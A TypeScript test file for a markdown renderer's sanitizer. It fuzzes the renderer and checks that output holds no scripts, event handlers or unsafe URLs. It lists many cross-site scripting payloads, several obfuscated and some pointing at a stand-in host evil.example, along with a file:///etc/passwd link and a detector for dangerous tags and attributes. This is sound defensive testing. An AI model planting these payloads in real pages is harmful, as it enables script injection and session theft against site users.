import fc from 'fast-check'
import { expect, test } from 'vitest'
import { render } from '#lib/markdown/render.ts'
import type { Rendered } from '#lib/markdown/rendered.ts'
import { elements } from '#lib/markdown/walk.ts'

/** Written without looking at our schema: what a browser would act on, by its own rules for addresses. */
function dangers({ tree }: Rendered): string[] {
  return [...elements(tree)].flatMap(({ tagName, properties }) => [
    ...(/^(?:script|style|iframe|object|embed|svg|math|img|form|meta|base|link|template)$/.test(tagName)
      ? [tagName]
      : []),
    ...Object.keys(properties).filter((name) => /^on|^style$|^src|^srcset$|^formaction$|^xlink|^name$/i.test(name)),
    ...Object.entries(properties).flatMap(([name, value]) =>
      /href|cite/i.test(name) ? badAddress(String(value)) : [],
    ),
    ...(properties.id !== undefined && !String(properties.id).startsWith('md-') ? [`id=${properties.id}`] : []),
  ])
}

function badAddress(href: string): string[] {
  if (!URL.canParse(href, 'https://firebreak.example')) return []
  return ['https:', 'http:', 'mailto:'].includes(new URL(href, 'https://firebreak.example').protocol) ? [] : [href]
}

const attempt = (source: string) => dangers(render({ source, headingBase: 2, prefix: 'md-' }))

const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  'text <b onclick=alert(1)>bold</b>',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '<style>@import "//evil.example";</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="//evil.example"><button>Sign in</button></form>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<div id="md-x" name="cookie">clobber</div>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61&#x76&#x61script:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](%6Aavascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\\javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://firebreak.example/1)',
  '[x](file:///etc/passwd)',
  '[x](view-source:javascript:alert(1))',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](https://evil.example/pixel.gif)',
  '![x"onerror="alert(1)](y)',
  '[x]: javascript:alert(1)\n\n[x] [y][x] ![x]',
  '[x][y]\n\n[y]: <java\tscript:alert(1)> "t"',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))',
  '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
  '[^__proto__]\n\n[^__proto__]: x',
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  '```" onmouseover="alert(1)\ncode\n```',
  '``` js" style="position:fixed\ncode\n```',
  '```language-x onclick=alert(1)\ncode\n```',
  '# <img src=x onerror=alert(1)>',
  '# constructor\n\n# __proto__\n\n# cookie\n\n# location',
  '| <img src=x onerror=alert(1)> |\n|-|\n| [x](javascript:alert(1)) |',
  '- [x] <input onfocus=alert(1) autofocus>',
  '<a\u00a0href="javascript:alert(1)">x</a>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  'https://a.example/"onmouseover=alert(1)',
  '{{constructor.constructor("alert(1)")()}} {alert(1)} <Callout>{process.exit()}</Callout>',
]

test.each(vectors)('%j is not executable', (source) => {
  expect(attempt(source)).toEqual([])
})

test('the judge recognises a danger when it sees one', () => {
  const element = (tagName: string, properties = {}) => ({
    type: 'element' as const,
    tagName,
    properties,
    children: [],
  })
  const judge = (node: ReturnType<typeof element>) =>
    dangers({ tree: { type: 'root', children: [node] }, headings: [], text: '' })
  expect(judge(element('script'))).toEqual(['script'])
  expect(judge(element('p', { onClick: 'x' }))).toEqual(['onClick'])
  expect(judge(element('a', { href: 'java\nscript:alert(1)' }))).toEqual(['java\nscript:alert(1)'])
  expect(judge(element('h2', { id: 'cookie' }))).toEqual(['id=cookie'])
})

const pieces = fc.constantFrom(
  ...[
    '<script>',
    '</script>',
    '<img src=x onerror=alert(1)>',
    'javascript:',
    'data:text/html,',
    '[x](',
    ')',
    '![',
    '](',
    '[^1]',
    '\n\n',
  ],
  ...[
    '[^1]: ',
    '&#106;',
    '&Tab;',
    '\\',
    '`',
    '```js\n',
    '|',
    '|-|\n',
    '# ',
    '- [ ] ',
    '> ',
    '*',
    '_',
    '~~',
    'www.',
    'https://a.example',
  ],
  ...['\ud800', '\udc00', '\u0000', '\u2028', '\u202e', '🔥', '火', '\t', ' '],
)
const anyText = fc
  .array(fc.oneof(pieces, fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 40 })
  .map((p) => p.join(''))

test('no text makes the renderer throw or its tree dangerous', () => {
  fc.assert(
    fc.property(anyText, (source) => {
      expect(attempt(source)).toEqual([])
    }),
    { numRuns: 400 },
  )
})
